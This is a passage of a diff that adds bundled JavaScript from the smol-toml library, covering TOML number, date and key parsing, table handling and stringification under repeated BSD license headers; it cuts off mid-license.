+        if (!state)
+            state = 1; // Detects single-digit numbers we can use a fast parse path for
+        // The way the states are numbered is not random: underscores are always permitted in odd-numbered states and
+        // never permitted in even-numbered ones.
+        if (c === 0x5f /* _ */) {
+            if (!(state & 1))
+                TomlError.x('illegal underscore', ctx);
+            state += 11; // 11 is a marker that makes the state even and greater than 9; see the numbering + rationale above
+            hasUnderscores = true;
+        }
+        // Transition to fractional part.
+        else if (state === 1 && c === 0x2e /* . */)
+            state = 2;
+        // Transition to exponent part.
+        else if ((state === 1 || state === 3) && (c === 0x65 /* e */ || c === 0x45 /* E */))
+            state = 4;
+        // + and - are permitted in state 4 only (handled before entering the function for state 0)
+        else if (state === 4 && (c === 0x2b /* + */ || c === 0x2d /* - */)) {
+            state = 6;
+        }
+        // All special cases have been handled; only digits are allowed here
+        else if (!isDigit(c))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear state flags
+        else if (state > 9)
+            state -= 11;
+        else if (!(state & 1))
+            state++;
+    }
+    // Single-char number; we can fast-path these very easily.
+    if (!state) {
+        let val = (startChr - 0x30 /* 0 */) * (sign || 1);
+        return ctx.bi === true ? BigInt(val) : val;
+    }
+    // Even-numbered states absolutely require a digit next; not even end of value is permitted
+    if (!(state & 1))
+        TomlError.x('unfinished numeric value', ctx, startPtr);
+    let str = ctx.s.slice(startPtr, ctx.p);
+    if (hasUnderscores)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return state > 1
+        ? parseFloat(str)
+        : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+    let c, underscore = 1;
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (c === 0x5f /* _ */) {
+            if (underscore & 1)
+                TomlError.x('illegal underscore', ctx);
+            underscore = 3;
+        }
+        // We only need to check if the number is a valid digit, nothing else is permitted
+        else if (!isDigit(c, base))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear underscore flag
+        else if (underscore & 1)
+            underscore--;
+    }
+    // Trailing underscore is not allowed
+    if (underscore & 1)
+        TomlError.x('unfinished numeric value', ctx);
+    let str = ctx.s.slice(startPtr + 2, ctx.p);
+    if (underscore)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+    if (ctx.bi !== true)
+        int: {
+            let val = parseInt(str, base);
+            if (!Number.isSafeInteger(val)) {
+                if (ctx.bi)
+                    break int;
+                TomlError.x('integer value cannot be represented losslessly', ctx, startPtr);
+            }
+            return val;
+        }
+    return base === 10 ? BigInt(str) : BigInt((base === 2 ? '0b' : base === 8 ? '0o' : '0x') + str);
+}
+function parseDate(ctx, c, endChr) {
+    let startPtr = ctx.p++, unsafeSeparator;
+    if (!isDigit(c) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++))) {
+        return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+    }
+    ctx.p += 5;
+    if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
+        TomlError.x('invalid date-time: date part is malformed', ctx, startPtr);
+    if (ctx.p >= ctx.s.length || (((c = ctx.s.charCodeAt(ctx.p)) !== 0x20 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 0x54 /* T */ && c !== 0x74 /* t */)) {
+        let t = ctx.s.slice(startPtr, ctx.p);
+        return readDate(ctx, t, 3, false, startPtr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 3) !== 0x3a /* : */)
+        TomlError.x('invalid date-time: time part is malformed', ctx, startPtr);
+    if (ctx.s.charCodeAt(ctx.p += 3) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    if (c = ctx.s.charCodeAt(ctx.p)) {
+        if (c === 0x5a /* Z */ || c === 0x7a /* z */) {
+            let t = ctx.s.slice(startPtr, ++ctx.p);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, '[+00:00]');
+        }
+        if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+            // Temporal's ZonedDateTime is weird asf when it comes to dealing with traditional offsets...
+            // It's 1.2x faster to allocate a new string to pass to ZDT than use Instant.toZonedDateTimeISO
+            let t = ctx.s.slice(startPtr, ctx.p += 6);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, !ctx.ld && ('[' + ctx.s.slice(ctx.p - 6, ctx.p) + ']'));
+        }
+    }
+    let t = ctx.s.slice(startPtr, ctx.p);
+    return readDate(ctx, t, 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+    let start = ctx.p;
+    if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
+        return parseNumber(ctx, --ctx.p, c, 0, endChr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 4) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    let t = ctx.s.slice(start, ctx.p);
+    return readDate(ctx, t, 4, false, start);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+    if (ctx.ld) {
+        let date = new TomlDate(str, type, unsafeDelim);
+        if (!date.isValid())
+            TomlError.x('invalid date', ctx, errPtr);
+        return date;
+    }
+    try {
+        if (temporalSuffix)
+            str += temporalSuffix;
+        switch (type) {
+            case 1: return Temporal.ZonedDateTime.from(str);
+            case 2: return Temporal.PlainDateTime.from(str);
+            case 3: return Temporal.PlainDate.from(str);
+            case 4: return Temporal.PlainTime.from(str);
+        }
+    }
+    catch (e) {
+        TomlError.x(e instanceof Error ? e.message : '' + e, ctx, errPtr);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/util.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function skipComment(ctx) {
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        let c = ctx.s.charCodeAt(ctx.p);
+        if (c === 0xa /* \n */)
+            break;
+        if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */) {
+            ctx.p++;
+            break;
+        }
+        if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in comments', ctx);
+        }
+    }
+}
+/** @internal */
+function skipVoid(ctx, banNewLines, banComments) {
+    let c;
+    while (ctx.p < ctx.s.length) {
+        while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 0x20 ||
+            c === 0x9 /* \t */ ||
+            (!banNewLines &&
+                (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)))))
+            ctx.p++;
+        if (banComments || c !== 0x23 /* # */)
+            break;
+        skipComment(ctx);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/struct.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+/** @internal */
+function parseKey(ctx, end = 0x3d /* = */) {
+    // States:
+    // 0: before first char
+    // 1: parsing bare key
+    // 2: after key component
+    let startPtr;
+    let state = 0;
+    let parsed = [];
+    let sliceStart;
+    let c = ctx.s.charCodeAt(startPtr = ctx.p);
+    do {
+        // End of key
+        if (c === end) {
+            if (!state)
+                TomlError.x('unexpected end of key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            return ctx.p++, parsed;
+        }
+        // Dotted key separator
+        else if (c === 0x2e /* . */) {
+            if (!state)
+                TomlError.x('illegal empty bare key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            state = 0;
+        }
+        // Quoted key
+        else if (!state && (c === 0x22 /* " */ || c === 0x27 /* ' */)) {
+            if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
+                TomlError.x('illegal quoted key: multiline strings are not allowed', ctx);
+            parsed.push(parseString(ctx));
+            state = 2;
+            ctx.p--;
+        }
+        // Whitespace; no-op in state 0 and 2, end of bare key in state 1
+        else if (c === 0x20 || c === 0x9 /* \t */) {
+            if (state === 1) {
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+                state = 2;
+            }
+        }
+        // If state is post-key, no character is allowed; otherwise ensure it's a bare-key component
+        else if (state === 2 || (c < 0x30 && c !== 0x2d /* - */) || (c > 0x39 && c < 0x41) || (c > 0x5a && c < 0x61 && c !== 0x5f /* _ */) || c > 0x7a) {
+            TomlError.x('illegal character in key', ctx);
+        }
+        // Illegal character
+        else if (!state) {
+            state = 1;
+            sliceStart = ctx.p;
+        }
+    } while (c = ctx.s.charCodeAt(++ctx.p));
+    TomlError.x('incomplete key-value: cannot find end of key', ctx, startPtr);
+}
+/** @internal */
+function parseInlineTable(ctx) {
+    let startPtr = ctx.p++;
+    let res = Object.create(null);
+    let seen = new Set();
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x7d /* } */) {
+            ctx.p++;
+            return res;
+        }
+        let k;
+        let t = res;
+        let hasOwn = false;
+        let errPtr = ctx.p;
+        let key = parseKey(ctx);
+        for (let i = 0; i < key.length; i++) {
+            if (i)
+                t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            k = key[i];
+            if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== 'object' || seen.has(t[k]))) {
+                TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+            }
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor')) {
+                t = ctx.uk !== 1 && TomlError.x('document contains an unsafe property', ctx, errPtr);
+                break;
+            }
+            if (!hasOwn && unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+            }
+        }
+        if (hasOwn) {
+            TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+        }
+        skipVoid(ctx, true, true);
+        let value = extractValue(ctx, 0x7d /* } */);
+        if (t && typeof (t[k] = value) === 'object')
+            seen.add(value);
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x7d /* } */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished table', ctx, startPtr);
+}
+/** @internal */
+function parseArray(ctx) {
+    let startPtr = ctx.p++;
+    let res = [];
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x5d /* ] */) {
+            ctx.p++;
+            return res;
+        }
+        res.push(extractValue(ctx, 0x5d /* ] */));
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x5d /* ] */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished array', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/parse.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function peekTable(ctx, key, table, meta, type) {
+    let t = table;
+    let m = meta;
+    let k;
+    let hasOwn = false;
+    let state;
+    for (let i = 0; i < key.length; i++) {
+        if (i) {
+            t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            m = (state = m[k]).c;
+            if (type === 0 /* Type.DOTTED */ && (state.t === 1 /* Type.EXPLICIT */ || state.t === 2 /* Type.ARRAY */)) {
+                return null;
+            }
+            if (state.t === 2 /* Type.ARRAY */) {
+                let l = t.length - 1;
+                t = t[l];
+                m = m[l].c;
+            }
+        }
+        k = key[i];
+        if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 /* Type.DOTTED */ && m[k]?.d) {
+            return null;
+        }
+        if (!hasOwn) {
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor'))
+                return false;
+            if (unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+                Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
+            }
+            m[k] = {
+                t: i < key.length - 1 && type === 2 /* Type.ARRAY */
+                    ? 3 /* Type.ARRAY_DOTTED */ : type,
+                d: false,
+                i: 0,
+                c: Object.create(null),
+            };
+        }
+    }
+    state = m[k];
+    if (state.t !== type && !(type === 1 /* Type.EXPLICIT */ && state.t === 3 /* Type.ARRAY_DOTTED */)) {
+        // Bad key type!
+        return null;
+    }
+    if (type === 2 /* Type.ARRAY */) {
+        if (!state.d) {
+            state.d = true;
+            t[k] = [];
+        }
+        t[k].push(t = Object.create(null));
+        state.c[state.i++] = (state = { t: 1 /* Type.EXPLICIT */, d: false, i: 0, c: Object.create(null) });
+    }
+    if (state.d) {
+        // Redefining a table!
+        return null;
+    }
+    state.d = true;
+    if (type === 1 /* Type.EXPLICIT */) {
+        t = hasOwn ? t[k] : (t[k] = Object.create(null));
+    }
+    else if (type === 0 /* Type.DOTTED */ && hasOwn) {
+        return null;
+    }
+    return [k, t, state.c];
+}
+function validateTablePeek(ctx, peek, ptr) {
+    if (peek === null || ctx.uk === 2)
+        TomlError.x(peek === null
+            ? 'trying to redefine an already defined table or value'
+            : 'document contains an unsafe property', ctx, ptr);
+}
+function parse_parse(toml, options = {}) {
+    let ctx = {
+        s: toml,
+        p: 0,
+        d: options.maxDepth ?? 1000,
+        bi: options.integersAsBigInt ?? false,
+        ld: options.useLegacyDate ?? true,
+        uk: options.unsafeKeyBehaviour === 'throw' ? 2 : options.unsafeKeyBehaviour === 'drop' ? 1 : 0,
+    };
+    let res = Object.create(null);
+    let meta = Object.create(null);
+    let tmp;
+    let skipping = false;
+    let tbl = res;
+    let m = meta;
+    // BOM is allowed, skip.
+    // JS is UTF-16, so we have to check for the UTF-16 BOM instead of the UTF-8 BOM sequence!
+    if (toml.charCodeAt(0) === 0xfeff)
+        ctx.p++;
+    skipVoid(ctx);
+    while (ctx.p < toml.length) {
+        if (toml.charCodeAt(ctx.p) === 0x5b /* [ */) {
+            let isTableArray = toml.charCodeAt(++ctx.p) === 0x5b; /* [ */
+            tmp = ctx.p += +isTableArray;
+            skipping = false;
+            let k = parseKey(ctx, 0x5d /* ] */);
+            if (isTableArray) {
+                if (toml.charCodeAt(ctx.p) !== 0x5d /* ] */) {
+                    TomlError.x('expected end of table array declaration', ctx);
+                }
+                ctx.p++;
+            }
+            let p = peekTable(ctx, k, res, meta, isTableArray ? 2 /* Type.ARRAY */ : 1 /* Type.EXPLICIT */);
+            if (!p) {
+                validateTablePeek(ctx, p, tmp);
+                skipping = true;
+            }
+            else {
+                m = p[2];
+                tbl = p[1];
+            }
+        }
+        else {
+            tmp = ctx.p;
+            let k = parseKey(ctx);
+            let p = peekTable(ctx, k, tbl, m, 0 /* Type.DOTTED */);
+            if (!p && !skipping)
+                validateTablePeek(ctx, p, tmp);
+            skipVoid(ctx, true, true);
+            let v = extractValue(ctx, void 0);
+            if (p && !skipping)
+                p[1][p[0]] = v;
+        }
+        skipVoid(ctx, true);
+        if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 0xa /* \n */ && (tmp !== 0xd /* \r */ || toml.charCodeAt(ctx.p + 1) !== 0xa /* \n */)) {
+            TomlError.x('each key-value declaration must be followed by an end-of-line', ctx);
+        }
+        skipVoid(ctx);
+    }
+    return res;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/stringify.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let BARE_KEY = /^[a-z0-9-_]+$/i;
+let HAS_WELLFORMED = !!(''.isWellFormed);
+function extendedTypeOf(obj) {
+    let type = typeof obj;
+    if (type === 'object') {
+        if (Array.isArray(obj))
+            return 'array';
+        if (typeof obj.getUTCDate === 'function' && obj instanceof Date)
+            return 'date';
+        if (globalThis.Temporal) {
+            if (obj.until) {
+                if (obj instanceof Temporal.ZonedDateTime)
+                    return 'temporal/tz+uc';
+                if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate)
+                    return 'temporal/uc';
+                if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant)
+                    return 'temporal';
+                if (obj instanceof Temporal.PlainYearMonth)
+                    return 'temporal/x';
+            }
+            else if ((obj.toPlainDate && obj instanceof Temporal.PlainMonthDay) ||
+                (obj.negated && obj instanceof Temporal.Duration)) {
+                return 'temporal/x';
+            }
+        }
+    }
+    return type;
+}
+function isArrayOfTables(obj) {
+    for (let i = 0; i < obj.length; i++) {
+        if (extendedTypeOf(obj[i]) !== 'object')
+            return false;
+    }
+    return obj.length != 0;
+}
+function formatWellFormedStringUnchecked(s) {
+    return JSON.stringify(s).replaceAll('\x7f', '\\u007f');
+}
+function formatString(s) {
+    return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
+}
+function formatKey(s) {
+    if (BARE_KEY.test(s))
+        return s;
+    if (HAS_WELLFORMED && !s.isWellFormed())
+        throw new RangeError('key contains illegal lone surrogates');
+    return formatWellFormedStringUnchecked(s);
+}
+function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    switch (type) {
+        // @ts-expect-error -- intentional fallthrough case
+        case 'number':
+            if (isNaN(val))
+                return 'nan';
+            if (val === Infinity)
+                return 'inf';
+            if (val === -Infinity)
+                return '-inf';
+            if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val)))
+                return val.toFixed(1);
+        case 'bigint':
+        case 'boolean':
+        case 'temporal':
+            return val.toString();
+        case 'string':
+            return formatString(val);
+        case 'date':
+            if (isNaN(val.getTime()))
+                throw new TypeError('cannot serialize invalid date');
+            return val.toISOString();
+        case 'object':
+            return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
+        case 'array':
+            return stringifyArray(val, depth, numberAsFloat, strictTemporal);
+        // @ts-expect-error -- intentional fallthrough case
+        case 'temporal/tz+uc':
+            if (strictTemporal) {
+                let tz = val.timeZoneId;
+                let tzc = tz.charCodeAt(0);
+                if (
+                // Classic offset
+                tzc !== 0x2b /* + */ && tzc !== 0x2d /* - */ &&
+                    (
+                    // Fast pre-check pass; see below for the actually accepted values
+                    (tzc !== 0x55 /* U */ && tzc !== 0x47 /* G */ && tzc !== 0x5a /* Z */ && tzc !== 0x45 /* E */) ||
+                        (
+                        // UTC and its aliases; Temporal implementations don't all canonicalise unfortunately
+                        tz !== 'UTC' && tz !== 'UCT' && tz !== 'Universal' && tz !== 'Zulu' &&
+                            // GMT is a TZ but it's for all intents and purposes equivalent to UTC. Safe to downgrade.
+                            !tz.startsWith('GMT') && tz !== 'Greenwich' &&
+                            // Etc/* are all safe to downgrade to offset (either UTC, GMT, or offset)
+                            !tz.startsWith('Etc/')))) {
+                    throw new TypeError('Temporal objects with an IANA timezone are not allowed in Temporal strict mode');
+                }
+            }
+        case 'temporal/uc':
+            if (strictTemporal && val.calendarId !== 'iso8601')
+                throw new TypeError('Temporal objects with a non-default calendar are not allowed in Temporal strict mode');
+            return val.toString({
+                calendarName: 'never',
+                timeZoneName: 'never',
+            });
+        case 'temporal/x':
+            throw new TypeError('Unsupported ' + val[Symbol.toStringTag]);
+    }
+}
+function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
+    let keys = Object.keys(obj);
+    if (keys.length === 0)
+        return '{}';
+    let res = '{ ';
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (i)
+            res += ', ';
+        res += formatKey(k) + ' = ' + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' }';
+}
+function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
+    if (array.length === 0)
+        return '[]';
+    let res = '[ ';
+    for (let i = 0; i < array.length; i++) {
+        if (i)
+            res += ', ';
+        if (array[i] === null || array[i] === void 0) {
+            throw new TypeError('arrays cannot contain null or undefined values');
+        }
+        res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' ]';
+}
+function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let res = '';
+    for (let i = 0; i < array.length; i++) {
+        res += `${res && '\n'}[[${key}]]\n`;
+        res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
+    }
+    return res;
+}
+function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let preamble = '';
+    let tables = '';
+    let keys = Object.keys(obj);
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (obj[k] !== null && obj[k] !== void 0) {
+            let type = extendedTypeOf(obj[k]);
+            if (type === 'symbol' || type === 'function') {
+                throw new TypeError(`cannot serialize values of type '${type}'`);
+            }
+            let key = formatKey(k);
+            if (type === 'array' && isArrayOfTables(obj[k])) {
+                tables += (tables && '\n') + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else if (type === 'object') {
+                let tblKey = prefix ? `${prefix}.${key}` : key;
+                tables += (tables && '\n') + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else {
+                preamble += key;
+                preamble += ' = ';
+                preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
+                preamble += '\n';
+            }
+        }
+    }
+    if (tableKey && (preamble || !tables)) // Create table only if necessary
+        preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
+    return preamble && tables
+        ? `${preamble}\n${tables}`
+        : preamble || tables;
+}
+function stringify_stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTemporal = false } = {}) {
+    if (extendedTypeOf(obj) !== 'object') {
+        throw new TypeError('stringify can only be called with an object');
+    }
+    let str = stringifyTable(0, obj, '', maxDepth, numbersAsFloat, strictTemporal);
+    if (str[str.length - 1] !== '\n')
+        return str + '\n';
+    return str;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/index.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
